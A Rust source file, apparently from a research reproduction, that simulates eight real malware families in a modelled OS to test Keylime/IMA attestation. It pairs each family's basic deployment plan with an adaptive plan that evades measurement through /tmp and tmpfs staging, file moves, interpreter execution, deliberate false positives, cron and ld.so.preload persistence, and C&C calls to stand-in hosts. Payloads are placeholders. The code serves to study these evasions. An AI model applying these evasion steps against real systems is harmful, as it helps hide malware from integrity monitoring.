@@ -1,0 +1,540 @@
+//! The 8 attack samples of Table II, modelled by their filesystem and
+//! execution footprints as described in §IV of the paper (and the public
+//! behaviour of each family).
+
+use cia_os::ExecMethod;
+
+use crate::steps::{AttackPlan, AttackStep};
+use crate::Problem;
+
+/// Table II's three categories.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum AttackCategory {
+    /// File-encrypting extortion malware.
+    Ransomware,
+    /// Kernel- or library-level stealth malware.
+    Rootkit,
+    /// Botnet command-and-control implants.
+    BotnetCnC,
+}
+
+impl AttackCategory {
+    /// Display label matching the paper.
+    pub fn label(self) -> &'static str {
+        match self {
+            AttackCategory::Ransomware => "Ransomware",
+            AttackCategory::Rootkit => "Rootkit",
+            AttackCategory::BotnetCnC => "Botnet C&C",
+        }
+    }
+}
+
+/// One row of Table II.
+#[derive(Debug, Clone)]
+pub struct AttackSample {
+    /// Sample name as the paper lists it.
+    pub name: &'static str,
+    /// Category.
+    pub category: AttackCategory,
+    /// Which of P1–P5 the adaptive plan exploits (the ● columns).
+    pub exploits: &'static [Problem],
+    /// True for samples implemented purely in an interpreted language
+    /// (Aoyama) — the case §IV-C's mitigations cannot close.
+    pub pure_interpreter: bool,
+}
+
+fn interp(path: &str) -> ExecMethod {
+    // Adaptive attackers deliberately pick interpreters that do NOT
+    // opt into script-execution-control (there will always be one).
+    ExecMethod::Interpreter {
+        interpreter: path.to_string(),
+        supports_exec_control: false,
+    }
+}
+
+fn drop(path: &str, content: &[u8], executable: bool) -> AttackStep {
+    AttackStep::DropFile {
+        path: path.to_string(),
+        content: content.to_vec(),
+        executable,
+    }
+}
+
+fn exec(path: &str) -> AttackStep {
+    AttackStep::Exec {
+        path: path.to_string(),
+        method: ExecMethod::Direct,
+    }
+}
+
+impl AttackSample {
+    /// The *basic* plan: the attacker deploys normally, unaware of
+    /// Keylime. Every plan executes at least one payload from a measured,
+    /// policy-checked location — which is why Table II's "basic" column
+    /// is all ✓.
+    pub fn basic_plan(&self) -> AttackPlan {
+        match self.name {
+            "AvosLocker" => AttackPlan {
+                steps: vec![
+                    drop("/root/avoslocker", b"avoslocker elf payload", true),
+                    exec("/root/avoslocker"),
+                    AttackStep::EncryptFiles {
+                        dir: "/home".into(),
+                    },
+                ],
+                on_boot: vec![exec("/root/avoslocker")],
+            },
+            "Diamorphine" => AttackPlan {
+                steps: vec![
+                    drop("/root/diamorphine/diamorphine.c", b"lkm source", false),
+                    AttackStep::Compile {
+                        output: "/root/diamorphine/diamorphine.ko".into(),
+                        content: b"diamorphine lkm".to_vec(),
+                    },
+                    AttackStep::LoadModule {
+                        path: "/root/diamorphine/diamorphine.ko".into(),
+                    },
+                    AttackStep::InstallPersistence {
+                        path: "/etc/modules-load.d/diamorphine.conf".into(),
+                        content: b"diamorphine".to_vec(),
+                    },
+                ],
+                on_boot: vec![AttackStep::LoadModule {
+                    path: "/root/diamorphine/diamorphine.ko".into(),
+                }],
+            },
+            "Reptile" => AttackPlan {
+                steps: vec![
+                    drop("/root/reptile/reptile.c", b"reptile source", false),
+                    AttackStep::Compile {
+                        output: "/root/reptile/reptile.ko".into(),
+                        content: b"reptile lkm".to_vec(),
+                    },
+                    AttackStep::LoadModule {
+                        path: "/root/reptile/reptile.ko".into(),
+                    },
+                    drop("/root/reptile/reptile_cmd", b"reptile userland", true),
+                    exec("/root/reptile/reptile_cmd"),
+                ],
+                on_boot: vec![
+                    AttackStep::LoadModule {
+                        path: "/root/reptile/reptile.ko".into(),
+                    },
+                    exec("/root/reptile/reptile_cmd"),
+                ],
+            },
+            "Vlany" => AttackPlan {
+                steps: vec![
+                    drop("/usr/lib/libvlany.so", b"vlany ld_preload library", true),
+                    AttackStep::InstallPersistence {
+                        path: "/etc/ld.so.preload".into(),
+                        content: b"/usr/lib/libvlany.so".to_vec(),
+                    },
+                    AttackStep::MmapLibrary {
+                        path: "/usr/lib/libvlany.so".into(),
+                    },
+                ],
+                on_boot: vec![AttackStep::MmapLibrary {
+                    path: "/usr/lib/libvlany.so".into(),
+                }],
+            },
+            "Mirai" => AttackPlan {
+                steps: vec![
+                    drop("/opt/mirai/mirai.arm", b"mirai bot binary", true),
+                    exec("/opt/mirai/mirai.arm"),
+                    AttackStep::ConnectCnC {
+                        endpoint: "cnc.mirai.example:23".into(),
+                    },
+                ],
+                on_boot: vec![exec("/opt/mirai/mirai.arm")],
+            },
+            "BASHLITE" => AttackPlan {
+                steps: vec![
+                    drop(
+                        "/opt/bashlite/deploy.sh",
+                        b"#!/bin/bash\nwget cnc/payload",
+                        true,
+                    ),
+                    AttackStep::Exec {
+                        path: "/opt/bashlite/deploy.sh".into(),
+                        method: ExecMethod::Shebang,
+                    },
+                    drop("/opt/bashlite/bot", b"bashlite bot binary", true),
+                    exec("/opt/bashlite/bot"),
+                    AttackStep::ConnectCnC {
+                        endpoint: "cnc.bashlite.example:443".into(),
+                    },
+                ],
+                on_boot: vec![exec("/opt/bashlite/bot")],
+            },
+            "Mortem-qBot" => AttackPlan {
+                steps: vec![
+                    // The deployment script that works out of /tmp — the
+                    // very behaviour through which the paper found P1.
+                    drop("/tmp/qbot-deploy.sh", b"#!/bin/bash\nsetup", true),
+                    AttackStep::Exec {
+                        path: "/tmp/qbot-deploy.sh".into(),
+                        method: ExecMethod::Shebang,
+                    },
+                    drop("/usr/local/bin/qbot", b"qbot binary", true),
+                    exec("/usr/local/bin/qbot"),
+                    AttackStep::ConnectCnC {
+                        endpoint: "irc.qbot.example:6667".into(),
+                    },
+                ],
+                on_boot: vec![exec("/usr/local/bin/qbot")],
+            },
+            "Aoyama" => AttackPlan {
+                steps: vec![
+                    drop(
+                        "/opt/aoyama/aoyama.py",
+                        b"#!/usr/bin/python3\nimport socket",
+                        true,
+                    ),
+                    AttackStep::Exec {
+                        path: "/opt/aoyama/aoyama.py".into(),
+                        method: ExecMethod::Shebang,
+                    },
+                    AttackStep::ConnectCnC {
+                        endpoint: "cnc.aoyama.example:8080".into(),
+                    },
+                ],
+                on_boot: vec![AttackStep::Exec {
+                    path: "/opt/aoyama/aoyama.py".into(),
+                    method: ExecMethod::Shebang,
+                }],
+            },
+            other => panic!("unknown sample {other}"),
+        }
+    }
+
+    /// The *adaptive* plan: the same payloads routed through P1–P5. The
+    /// persistence replays the evasion after every boot, which is what
+    /// lets the compromise survive reboots without fresh measurements.
+    pub fn adaptive_plan(&self) -> AttackPlan {
+        match self.name {
+            // P1: everything happens under the Keylime-excluded /tmp.
+            "AvosLocker" => AttackPlan {
+                steps: vec![
+                    drop("/tmp/.avos/avoslocker", b"avoslocker elf payload", true),
+                    exec("/tmp/.avos/avoslocker"),
+                    AttackStep::EncryptFiles {
+                        dir: "/home".into(),
+                    },
+                    AttackStep::InstallPersistence {
+                        path: "/etc/cron.d/avos".into(),
+                        content: b"@reboot /tmp/.avos/avoslocker".to_vec(),
+                    },
+                ],
+                on_boot: vec![
+                    drop("/tmp/.avos/avoslocker", b"avoslocker elf payload", true),
+                    exec("/tmp/.avos/avoslocker"),
+                ],
+            },
+            // P1 + P5: built in /tmp by interpreter-driven scripts, the
+            // module loaded from the excluded directory.
+            "Diamorphine" => AttackPlan {
+                steps: vec![
+                    drop("/tmp/.d/diamorphine.c", b"lkm source", false),
+                    drop("/tmp/.d/build.sh", b"make", false),
+                    AttackStep::Exec {
+                        path: "/tmp/.d/build.sh".into(),
+                        method: interp("/bin/bash"),
+                    },
+                    AttackStep::Compile {
+                        output: "/tmp/.d/diamorphine.ko".into(),
+                        content: b"diamorphine lkm".to_vec(),
+                    },
+                    AttackStep::LoadModule {
+                        path: "/tmp/.d/diamorphine.ko".into(),
+                    },
+                    AttackStep::InstallPersistence {
+                        path: "/etc/cron.d/dia".into(),
+                        content: b"@reboot restage".to_vec(),
+                    },
+                ],
+                on_boot: vec![
+                    drop("/tmp/.d/diamorphine.ko", b"diamorphine lkm", false),
+                    AttackStep::LoadModule {
+                        path: "/tmp/.d/diamorphine.ko".into(),
+                    },
+                ],
+            },
+            // P1 + P4: the userland tool is primed in /tmp, then moved to
+            // /usr within the same filesystem — never re-measured.
+            "Reptile" => AttackPlan {
+                steps: vec![
+                    drop("/tmp/.r/reptile.ko", b"reptile lkm", false),
+                    AttackStep::LoadModule {
+                        path: "/tmp/.r/reptile.ko".into(),
+                    },
+                    drop("/tmp/.r/reptile_cmd", b"reptile userland", true),
+                    exec("/tmp/.r/reptile_cmd"),
+                    AttackStep::Move {
+                        from: "/tmp/.r/reptile_cmd".into(),
+                        to: "/usr/sbin/reptile".into(),
+                    },
+                    exec("/usr/sbin/reptile"),
+                    AttackStep::InstallPersistence {
+                        path: "/etc/cron.d/reptile".into(),
+                        content: b"@reboot restage".to_vec(),
+                    },
+                ],
+                on_boot: vec![
+                    drop("/tmp/.r/reptile.ko", b"reptile lkm", false),
+                    AttackStep::LoadModule {
+                        path: "/tmp/.r/reptile.ko".into(),
+                    },
+                    drop("/tmp/.r/reptile_cmd", b"reptile userland", true),
+                    exec("/tmp/.r/reptile_cmd"),
+                    AttackStep::Move {
+                        from: "/tmp/.r/reptile_cmd".into(),
+                        to: "/usr/sbin/reptile".into(),
+                    },
+                    exec("/usr/sbin/reptile"),
+                ],
+            },
+            // P1 + P4 for a shared library: primed by an mmap under /tmp,
+            // then moved under /usr/lib.
+            "Vlany" => AttackPlan {
+                steps: vec![
+                    drop("/tmp/.v/libvlany.so", b"vlany ld_preload library", true),
+                    AttackStep::MmapLibrary {
+                        path: "/tmp/.v/libvlany.so".into(),
+                    },
+                    AttackStep::Move {
+                        from: "/tmp/.v/libvlany.so".into(),
+                        to: "/usr/lib/libvlany.so".into(),
+                    },
+                    AttackStep::InstallPersistence {
+                        path: "/etc/ld.so.preload".into(),
+                        content: b"/usr/lib/libvlany.so".to_vec(),
+                    },
+                    AttackStep::MmapLibrary {
+                        path: "/usr/lib/libvlany.so".into(),
+                    },
+                ],
+                on_boot: vec![
+                    drop("/tmp/.v/libvlany.so", b"vlany ld_preload library", true),
+                    AttackStep::MmapLibrary {
+                        path: "/tmp/.v/libvlany.so".into(),
+                    },
+                    AttackStep::Move {
+                        from: "/tmp/.v/libvlany.so".into(),
+                        to: "/usr/lib/libvlany.so".into(),
+                    },
+                    AttackStep::MmapLibrary {
+                        path: "/usr/lib/libvlany.so".into(),
+                    },
+                ],
+            },
+            // P3: runs entirely from tmpfs, which IMA never measures.
+            "Mirai" => AttackPlan {
+                steps: vec![
+                    drop("/dev/shm/.mirai", b"mirai bot binary", true),
+                    exec("/dev/shm/.mirai"),
+                    AttackStep::ConnectCnC {
+                        endpoint: "cnc.mirai.example:23".into(),
+                    },
+                    AttackStep::InstallPersistence {
+                        path: "/etc/cron.d/mirai".into(),
+                        content: b"@reboot restage".to_vec(),
+                    },
+                ],
+                on_boot: vec![
+                    drop("/dev/shm/.mirai", b"mirai bot binary", true),
+                    exec("/dev/shm/.mirai"),
+                ],
+            },
+            // P5 for deployment + P3 for the bot.
+            "BASHLITE" => AttackPlan {
+                steps: vec![
+                    drop("/tmp/.b/deploy.sh", b"wget cnc/payload", false),
+                    AttackStep::Exec {
+                        path: "/tmp/.b/deploy.sh".into(),
+                        method: interp("/bin/bash"),
+                    },
+                    drop("/dev/shm/.bot", b"bashlite bot binary", true),
+                    exec("/dev/shm/.bot"),
+                    AttackStep::ConnectCnC {
+                        endpoint: "cnc.bashlite.example:443".into(),
+                    },
+                    AttackStep::InstallPersistence {
+                        path: "/etc/cron.d/bashlite".into(),
+                        content: b"@reboot restage".to_vec(),
+                    },
+                ],
+                on_boot: vec![
+                    drop("/dev/shm/.bot", b"bashlite bot binary", true),
+                    exec("/dev/shm/.bot"),
+                ],
+            },
+            // P2: trip a benign false positive so the verifier pauses and
+            // the bot's log entries are never evaluated.
+            "Mortem-qBot" => AttackPlan {
+                steps: vec![
+                    drop("/tmp/qbot-deploy.sh", b"#!/bin/bash\nsetup", true),
+                    AttackStep::Exec {
+                        path: "/tmp/qbot-deploy.sh".into(),
+                        method: ExecMethod::Shebang,
+                    },
+                    AttackStep::TriggerFalsePositive {
+                        path: "/usr/local/bin/innocent-helper".into(),
+                    },
+                    drop("/usr/local/bin/qbot", b"qbot binary", true),
+                    exec("/usr/local/bin/qbot"),
+                    AttackStep::ConnectCnC {
+                        endpoint: "irc.qbot.example:6667".into(),
+                    },
+                    AttackStep::InstallPersistence {
+                        path: "/etc/cron.d/qbot".into(),
+                        content: b"@reboot evade+run".to_vec(),
+                    },
+                ],
+                on_boot: vec![
+                    AttackStep::TriggerFalsePositive {
+                        path: "/usr/local/bin/innocent-helper2".into(),
+                    },
+                    exec("/usr/local/bin/qbot"),
+                ],
+            },
+            // P5: pure Python — invoked through an interpreter, the
+            // script itself is never measured.
+            "Aoyama" => AttackPlan {
+                steps: vec![
+                    drop("/tmp/.a/aoyama.py", b"import socket", false),
+                    AttackStep::Exec {
+                        path: "/tmp/.a/aoyama.py".into(),
+                        method: interp("/usr/bin/python3"),
+                    },
+                    AttackStep::ConnectCnC {
+                        endpoint: "cnc.aoyama.example:8080".into(),
+                    },
+                    AttackStep::InstallPersistence {
+                        path: "/etc/cron.d/aoyama".into(),
+                        content: b"@reboot python3 /tmp/.a/aoyama.py".to_vec(),
+                    },
+                ],
+                on_boot: vec![
+                    drop("/tmp/.a/aoyama.py", b"import socket", false),
+                    AttackStep::Exec {
+                        path: "/tmp/.a/aoyama.py".into(),
+                        method: interp("/usr/bin/python3"),
+                    },
+                ],
+            },
+            other => panic!("unknown sample {other}"),
+        }
+    }
+}
+
+/// The full Table II corpus in the paper's row order.
+pub fn attack_corpus() -> Vec<AttackSample> {
+    use AttackCategory::*;
+    use Problem::*;
+    vec![
+        AttackSample {
+            name: "AvosLocker",
+            category: Ransomware,
+            exploits: &[P1, P2, P3, P4],
+            pure_interpreter: false,
+        },
+        AttackSample {
+            name: "Diamorphine",
+            category: Rootkit,
+            exploits: &[P1, P2, P4, P5],
+            pure_interpreter: false,
+        },
+        AttackSample {
+            name: "Reptile",
+            category: Rootkit,
+            exploits: &[P1, P2, P4, P5],
+            pure_interpreter: false,
+        },
+        AttackSample {
+            name: "Vlany",
+            category: Rootkit,
+            exploits: &[P1, P2, P4, P5],
+            pure_interpreter: false,
+        },
+        AttackSample {
+            name: "Mirai",
+            category: BotnetCnC,
+            exploits: &[P1, P2, P3, P4, P5],
+            pure_interpreter: false,
+        },
+        AttackSample {
+            name: "BASHLITE",
+            category: BotnetCnC,
+            exploits: &[P1, P2, P3, P4, P5],
+            pure_interpreter: false,
+        },
+        AttackSample {
+            name: "Mortem-qBot",
+            category: BotnetCnC,
+            exploits: &[P1, P2, P3, P4, P5],
+            pure_interpreter: false,
+        },
+        AttackSample {
+            name: "Aoyama",
+            category: BotnetCnC,
+            exploits: &[P1, P2, P3, P5],
+            pure_interpreter: true,
+        },
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn corpus_matches_table_ii_shape() {
+        let corpus = attack_corpus();
+        assert_eq!(corpus.len(), 8);
+        assert_eq!(
+            corpus
+                .iter()
+                .filter(|s| s.category == AttackCategory::Ransomware)
+                .count(),
+            1
+        );
+        assert_eq!(
+            corpus
+                .iter()
+                .filter(|s| s.category == AttackCategory::Rootkit)
+                .count(),
+            3
+        );
+        assert_eq!(
+            corpus
+                .iter()
+                .filter(|s| s.category == AttackCategory::BotnetCnC)
+                .count(),
+            4
+        );
+        // Exactly one pure-interpreter sample (Aoyama).
+        let pure: Vec<_> = corpus.iter().filter(|s| s.pure_interpreter).collect();
+        assert_eq!(pure.len(), 1);
+        assert_eq!(pure[0].name, "Aoyama");
+        // AvosLocker is the only sample that cannot exploit P5 (binary
+        // only), matching the paper's note.
+        for s in &corpus {
+            if s.name == "AvosLocker" {
+                assert!(!s.exploits.contains(&Problem::P5));
+            }
+        }
+    }
+
+    #[test]
+    fn every_sample_has_both_plans() {
+        for sample in attack_corpus() {
+            let basic = sample.basic_plan();
+            let adaptive = sample.adaptive_plan();
+            assert!(!basic.steps.is_empty(), "{}", sample.name);
+            assert!(!adaptive.steps.is_empty(), "{}", sample.name);
+            assert!(!basic.on_boot.is_empty(), "{}", sample.name);
+            assert!(!adaptive.on_boot.is_empty(), "{}", sample.name);
+        }
+    }
+}
